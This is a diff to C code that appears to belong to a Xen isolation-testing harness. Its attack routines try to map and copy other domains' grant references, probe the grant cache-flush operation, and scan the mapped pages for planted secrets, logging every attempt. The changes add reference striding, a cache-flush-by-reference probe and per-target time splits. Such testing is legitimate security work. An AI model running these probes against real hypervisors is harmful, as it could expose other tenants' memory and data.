@@ -60,8 +60,14 @@ static void unmap(unsigned int window, uint32_t handle)
 	grant_op(GNTTABOP_unmap_grant_ref, op, 1);
 }
 
-/* Which can be mapped: a byte for each. */
+/* Which can be mapped, or were not tried: a byte for each. */
 static uint8_t can_map[TARGETS_MAX][REFS];
+
+/* Every one but in the shortest of runs. */
+static unsigned int stride(void)
+{
+	return step > 64 ? 8 : 1;
+}
 
 static void try_map(unsigned int nr_target, uint32_t flags, const char *what)
 {
@@ -70,15 +76,16 @@ static void try_map(unsigned int nr_target, uint32_t flags, const char *what)
 	struct gnttab_map_grant_ref *op;
 	uint32_t ref[BATCH];
 
-	for (unsigned int first = 0; first < REFS; first += BATCH) {
+	for (unsigned int first = 0; first < REFS; first += BATCH * stride()) {
 		for (unsigned int i = 0; i < BATCH; i++)
-			ref[i] = first + i;
+			ref[i] = first + i * stride();
 		op = map(t, ref, BATCH, 0, flags);
 		for (unsigned int i = 0; i < BATCH; i++) {
 			attempt_grant(a, ref[i], op[i].status);
 			if (op[i].status)
 				continue;
-			can_map[nr_target][ref[i]] = 1;
+			if (ref[i] < REFS)
+				can_map[nr_target][ref[i]] = 1;
 			if (flags & GNTMAP_host_map) {
 				xen_look(i, 1);
 				attempt_search(a, ref[i],
@@ -98,10 +105,10 @@ static void try_copy_from(const struct target *t)
 	uint8_t *to = xbuf + VGA_BUF_BYTES / 2;
 	unsigned int page = (unsigned int)(to - xbuf) / PAGE_BYTES;
 
-	for (uint32_t first = 0; first < REFS; first += 64) {
+	for (uint32_t first = 0; first < REFS; first += 64 * stride()) {
 		memset(op, 0, 64 * sizeof(*op));
 		for (unsigned int i = 0; i < 64; i++) {
-			op[i].source.u.ref = first + i;
+			op[i].source.u.ref = first + i * stride();
 			op[i].source.domid = t->domid;
 			op[i].dest.u.gmfn = xinfo.buf_gfn[page + i];
 			op[i].dest.domid = DOMID_SELF;
@@ -117,9 +124,9 @@ static void try_copy_from(const struct target *t)
 				break;
 		}
 		for (unsigned int i = 0; i < 64; i++) {
-			attempt_grant(a, first + i, op[i].status);
+			attempt_grant(a, first + i * stride(), op[i].status);
 			if (!op[i].status)
-				attempt_search(a, first + i,
+				attempt_search(a, first + i * stride(),
 					       to + (size_t)i * PAGE_BYTES,
 					       PAGE_BYTES);
 		}
@@ -309,6 +316,8 @@ void attack_grants(void)
 {
 	xen_open();
 	for (unsigned int i = 0; i < nr_targets; i++) {
+		for (uint32_t ref = 0; ref < REFS; ref++)
+			can_map[i][ref] = ref % stride() != 0;
 		try_map(i, GNTMAP_host_map | GNTMAP_readonly, "grant.map_ro");
 		try_map(i, GNTMAP_host_map, "grant.map_rw");
 		try_map(i, GNTMAP_device_map | GNTMAP_host_map,
@@ -369,6 +378,16 @@ void attack_cache(uint64_t first_frame, uint64_t nr_frames)
 
 	xen_open();
 	op = (void *)xbuf;
+	a = attempt_begin("grant.cache_flush_ref", &host);
+	for (uint32_t i = 0; i < REFS; i += step) {
+		memset(op, 0, sizeof(*op));
+		op->a.ref = i;
+		op->length = PAGE_BYTES;
+		op->op = GNTTAB_CACHE_CLEAN | GNTTAB_CACHE_SOURCE_GREF;
+		attempt_errno(a, i, grant_op(GNTTABOP_cache_flush, op, 1));
+	}
+	attempt_end(a);
+	/* A refusal takes Xen a look at all that the frame's owner has granted. */
 	a = attempt_begin("grant.cache_flush", &host);
 	for (uint64_t i = 0; i < nr_frames; i += step) {
 		memset(op, 0, sizeof(*op));
@@ -385,7 +404,8 @@ void attack_cache(uint64_t first_frame, uint64_t nr_frames)
 
 /*
  * Maps all that can be mapped, and looks at all of it until the time is over:
- * what of the secrets ever lies there, and in which pages.
+ * what of the secrets ever lies there, and in which pages.  The first target is
+ * the one with the secrets; the others get a quarter of the time.
  */
 void attack_sample(unsigned int seconds)
 {
@@ -415,7 +435,7 @@ void attack_sample(unsigned int seconds)
 			}
 		}
 		a = attempt_begin("sample", t);
-		end = time(NULL) + (time_t)seconds;
+		end = time(NULL) + (time_t)(n ? (seconds + 3) / 4 : seconds);
 		/* As much as fits into the window, in turns. */
 		for (unsigned int from = 0, turn = 0;
 		     nr_all && (time(NULL) < end || turn * VGA_WINDOW_PAGES < nr_all);
